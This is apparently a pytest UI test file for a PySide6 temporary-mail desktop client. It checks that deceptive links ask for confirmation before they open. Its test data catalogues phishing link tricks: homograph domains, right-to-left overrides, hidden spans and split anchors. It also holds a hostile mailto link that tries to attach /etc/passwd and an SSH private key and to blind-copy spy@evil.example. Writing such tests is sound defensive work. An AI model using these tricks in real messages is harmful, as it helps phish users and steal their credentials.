"""Deceptive links ask before they open, whether the window is active or not.

The real MainWindow shows a mail; a real mouse click (QTest) lands on the
link in the reader. What the system would open is caught by
QDesktopServices.setUrlHandler for http, https and mailto, and the question
is the real dialog, answered by a timer that reads it and presses a button.
"""

from __future__ import annotations

from collections.abc import Iterator
from datetime import datetime, timezone

import pytest
from PySide6.QtCore import QObject, Qt, QTimer, QUrl, Slot
from PySide6.QtGui import QDesktopServices, QTextCursor
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication, QMessageBox, QWidget
from shiboken6 import isValid

from tempmail_desktop.core.models import Message
from tempmail_desktop.providers.registry import PROVIDERS
from tempmail_desktop.ui.main_window import MainWindow
from tests.ui.conftest_async import app_controller, qloop  # noqa: F401

EVIL = "https://evil.example.net/login"
HANDLED_SCHEMES = ("http", "https", "mailto")
NO_NETWORK = {f"providers.{pid}.base_url": "http://127.0.0.1:9" for pid in PROVIDERS}  # nothing listens there


class OpenedUrls(QObject):
    """Stands in for the browser and the mail client: records what the system was asked to open."""

    def __init__(self) -> None:
        super().__init__()
        self.urls: list[str] = []

    @Slot(QUrl)
    def open(self, url: QUrl) -> None:
        self.urls.append(url.toString(QUrl.ComponentFormattingOption.FullyEncoded))


class Questions:
    """Answers the link question as a user would: reads the real dialog, presses a button."""

    def __init__(self) -> None:
        self.answer = QMessageBox.StandardButton.Cancel
        self.asked: list[tuple[str, Qt.TextFormat]] = []
        self._timer = QTimer()
        self._timer.setInterval(10)
        self._timer.timeout.connect(self._answer_open_box)
        self._timer.start()

    def _answer_open_box(self) -> None:
        for widget in QApplication.topLevelWidgets():
            if isinstance(widget, QMessageBox) and widget.isVisible():
                self.asked.append((widget.text(), widget.textFormat()))
                widget.button(self.answer).click()

    def stop(self) -> None:
        self._timer.stop()


@pytest.fixture
def opened() -> Iterator[OpenedUrls]:
    recorder = OpenedUrls()
    for scheme in HANDLED_SCHEMES:
        QDesktopServices.setUrlHandler(scheme, recorder, "open")
    yield recorder
    for scheme in HANDLED_SCHEMES:
        QDesktopServices.unsetUrlHandler(scheme)


@pytest.fixture
def questions() -> Iterator[Questions]:
    answering = Questions()
    yield answering
    answering.stop()


@pytest.fixture
def window(qtbot, app_controller) -> Iterator[MainWindow]:  # noqa: F811
    shown = MainWindow(app_controller(**NO_NETWORK))
    shown.show()
    qtbot.waitExposed(shown)
    yield shown
    # Closed before app_controller shuts the controller down.
    shown.close()
    shown.deleteLater()


@pytest.fixture
def other_window(qtbot) -> Iterator[QWidget]:
    """Another top-level window, to take the activation away from the main one."""
    other = QWidget()
    other.setWindowTitle("Another program")
    other.resize(200, 100)
    yield other
    if isValid(other):
        other.close()
        other.deleteLater()


def mail_with(html: str) -> Message:
    return Message(id="m1", provider="gptmail", mailbox="me@example.com", from_addr="news@shop.example",
                   from_name="Shop", subject="Your account", received_at=datetime(2026, 5, 9, tzinfo=timezone.utc),
                   text="", html=html)


def show_mail(window: MainWindow, html: str, state: str, other_window: QWidget, qtbot) -> None:
    window.reader.set_message(mail_with(html))
    qtbot.waitUntil(lambda: not window.reader.is_loading())
    if state == "active":
        window.activateWindow()
        window.raise_()
        qtbot.waitUntil(window.isActiveWindow)
        # Where a user's click in an active window would have put the focus.
        window.reader.browser.setFocus()
        qtbot.waitUntil(window.reader.browser.hasFocus)
    else:
        other_window.show()
        qtbot.waitExposed(other_window)
        other_window.activateWindow()
        qtbot.waitUntil(other_window.isActiveWindow)
        assert not window.isActiveWindow()


def click_text(window: MainWindow, label: str) -> None:
    """A real left click on the middle of ``label`` in the reader."""
    browser = window.reader.browser
    found = browser.document().find(label)
    assert not found.isNull(), f"{label!r} is not in the shown mail"
    cursor = QTextCursor(browser.document())
    cursor.setPosition((found.selectionStart() + found.selectionEnd()) // 2)
    browser.ensureCursorVisible()
    QTest.mouseClick(browser.viewport(), Qt.MouseButton.LeftButton, Qt.KeyboardModifier.NoModifier,
                     browser.cursorRect(cursor).center())


# (id, the mail's HTML, the text to click, where it really leads). Each one's
# text reads as a site the link does not open.
DECEPTIVE = [
    ("plain", f'<p><a href="{EVIL}">paypal.com</a></p>', "paypal.com", "evil.example.net"),
    # Qt reports the click as QUrl's normal form of the href, which matched no
    # anchor of the document when the text was looked up at click time.
    ("href-spelled-unusually", '<p><a href="HTTPS://EVIL.example.net/%7Eid">paypal.com</a></p>', "paypal.com",
     "evil.example.net"),
    ("zero-width-space", f'<p><a href="{EVIL}">pay&#8203;pal.com</a></p>', "pal.com", "evil.example.net"),
    ("soft-hyphen", f'<p><a href="{EVIL}">pay&shy;pal.com</a></p>', "pal.com", "evil.example.net"),
    ("fullwidth-dot", f'<p><a href="{EVIL}">paypal&#xFF0E;com</a></p>', "paypal", "evil.example.net"),
    ("one-dot-leader", f'<p><a href="{EVIL}">paypal&#x2024;com</a></p>', "paypal", "evil.example.net"),
    ("right-to-left-override", f'<p><a href="{EVIL}">&#x202E;moc.lapyap</a></p>', "lapyap", "evil.example.net"),
    ("hidden-span-tiny", '<p><a href="https://paypal.comx.net/">paypal.com<span style="font-size:1px">x.net</span>'
                         '</a></p>', "paypal", "paypal.comx.net"),
    ("hidden-span-transparent", '<p><a href="https://paypal.comx.net/">paypal.com'
                                '<span style="color:rgba(0,0,0,0)">x.net</span></a></p>', "paypal", "paypal.comx.net"),
    ("hidden-span-white-on-white", '<p><a href="https://paypal.comx.net/">paypal.com'
                                   '<span style="color:#ffffff">x.net</span></a></p>', "paypal", "paypal.comx.net"),
    ("split-anchors", f'<p><a href="{EVIL}">pay</a><a href="{EVIL}">pal.com</a></p>', "pal.com",
     "evil.example.net"),
    ("split-anchors-dot-between", f'<p><a href="{EVIL}">paypal</a>.<a href="{EVIL}">com</a></p>', "com",
     "evil.example.net"),
    ("split-anchors-two-targets", f'<p><a href="https://paypal.com/">paypal</a><a href="{EVIL}">.com</a></p>', ".com",
     "evil.example.net"),
    ("line-break-inside", f'<p><a href="{EVIL}">paypal<br>.com</a></p>', "paypal", "evil.example.net"),
    ("ip-address-text", f'<p><a href="{EVIL}">192.168.10.1</a></p>', "192.168", "evil.example.net"),
    ("ip-address-target", '<p><a href="http://2130706433/login">paypal.com</a></p>', "paypal.com", "127.0.0.1"),
    ("longer-name-starting-with-it", '<p><a href="https://paypal.com.evil.net/">paypal.com</a></p>', "paypal.com",
     "paypal.com.evil.net"),
    ("idn-homograph-target", '<p><a href="https://p\u0430ypal.com/">paypal.com</a></p>', "paypal.com",
     "xn--pypal-4ve.com"),
    ("one-target-two-texts", f'<p><a href="{EVIL}">Log in</a> at <a href="{EVIL}">paypal.com</a></p>', "Log in",
     "evil.example.net"),
]
STATES = ("active", "inactive")


@pytest.mark.parametrize("state", STATES)
@pytest.mark.parametrize(("html", "label", "host"), [case[1:] for case in DECEPTIVE], ids=[case[0] for case in DECEPTIVE])
def test_a_deceptive_link_asks_first_and_cancel_opens_nothing(
        qtbot, window, other_window, opened, questions, state, html, label, host):
    show_mail(window, html, state, other_window, qtbot)
    click_text(window, label)
    qtbot.wait(50)
    assert len(questions.asked) == 1, f"no question before opening (window {state})"
    text, text_format = questions.asked[0]
    assert text_format == Qt.TextFormat.PlainText
    assert host in [line.strip() for line in text.split("\n")], f"the real host is not on its own line in:\n{text}"
    assert opened.urls == []


@pytest.mark.parametrize("state", STATES)
def test_answering_yes_opens_the_real_target(qtbot, window, other_window, opened, questions, state):
    show_mail(window, '<p><a href="https://evil.example.net/login?id=7">paypal.com</a></p>', state, other_window, qtbot)
    questions.answer = QMessageBox.StandardButton.Yes
    click_text(window, "paypal.com")
    qtbot.waitUntil(lambda: opened.urls != [])
    assert len(questions.asked) == 1
    assert opened.urls == ["https://evil.example.net/login?id=7"]


@pytest.mark.parametrize("state", STATES)
@pytest.mark.parametrize(
    ("html", "label", "target"),
    [
        (f'<p><a href="{EVIL}">Click here</a></p>', "Click here", EVIL),
        ('<p><a href="https://email.paypal.com/track?x=1">paypal.com</a></p>', "paypal.com",
         "https://email.paypal.com/track?x=1"),
        ('<p><a href="https://www.paypal.com/">paypal&#xFF0E;com</a></p>', "paypal", "https://www.paypal.com/"),
    ],
    ids=["click-here", "subdomain-of-the-shown-site", "fullwidth-dot-to-that-site"],
)
def test_an_honest_link_opens_without_a_question(qtbot, window, other_window, opened, questions, state,
                                                 html, label, target):
    show_mail(window, html, state, other_window, qtbot)
    click_text(window, label)
    qtbot.waitUntil(lambda: opened.urls != [])
    assert questions.asked == []
    assert opened.urls == [target]


@pytest.mark.parametrize("state", STATES)
def test_a_mailto_link_opens_without_its_attachments(qtbot, window, other_window, opened, questions, state):
    show_mail(window, '<p><a href="mailto:help@shop.example?subject=Order%2042&attach=/etc/passwd'
                      '&attachment=file:///home/user/.ssh/id_rsa&bcc=spy@evil.example&body=Hello">Write to us</a></p>',
              state, other_window, qtbot)
    click_text(window, "Write to us")
    qtbot.waitUntil(lambda: opened.urls != [])
    assert questions.asked == []
    assert opened.urls == ["mailto:help@shop.example?subject=Order%2042&body=Hello"]


def test_a_deceptive_link_reached_by_keyboard_asks_too(qtbot, window, other_window, opened, questions):
    show_mail(window, '<p>Sign in: <a href="HTTPS://EVIL.example.net/%7Eid">pay&#8203;pal.com</a></p>', "active",
              other_window, qtbot)
    browser = window.reader.browser
    QTest.keyClick(browser, Qt.Key.Key_Tab)  # the browser moves the focus to its first link
    assert browser.textCursor().selectedText() == "pay\u200bpal.com"
    QTest.keyClick(browser, Qt.Key.Key_Return)
    qtbot.wait(50)
    assert len(questions.asked) == 1
    assert opened.urls == []


def test_the_question_shows_mail_text_literally(qtbot, window, other_window, opened, questions):
    # Link text with markup in it: a rich-text dialog would load the image.
    show_mail(window, f'<p><a href="{EVIL}">https://paypal.com/&lt;img src="/dev/zero"&gt;</a></p>', "active",
              other_window, qtbot)
    click_text(window, "paypal.com")
    qtbot.wait(50)
    assert len(questions.asked) == 1
    text, text_format = questions.asked[0]
    assert text_format == Qt.TextFormat.PlainText
    assert 'https://paypal.com/<img src="/dev/zero">' in text


@pytest.mark.parametrize("href", ["file:///etc/passwd", "javascript:alert(1)", "ftp://files.example/a.zip",
                                  "smb://server/share/x",
                                  # A browser reads these as http(s)://evil.example; Qt sees no host.
                                  "http:evil.example", "https:///evil.example"])
def test_only_http_https_with_a_host_and_mailto_ever_open(qtbot, window, other_window, opened, questions, href):
    show_mail(window, f'<p><a href="{href}">Download</a></p>', "inactive", other_window, qtbot)
    click_text(window, "Download")
    qtbot.wait(50)
    assert questions.asked == []
    assert opened.urls == []
    assert "not opened" in window.statusBar().currentMessage().lower()  # a click that opens nothing says so
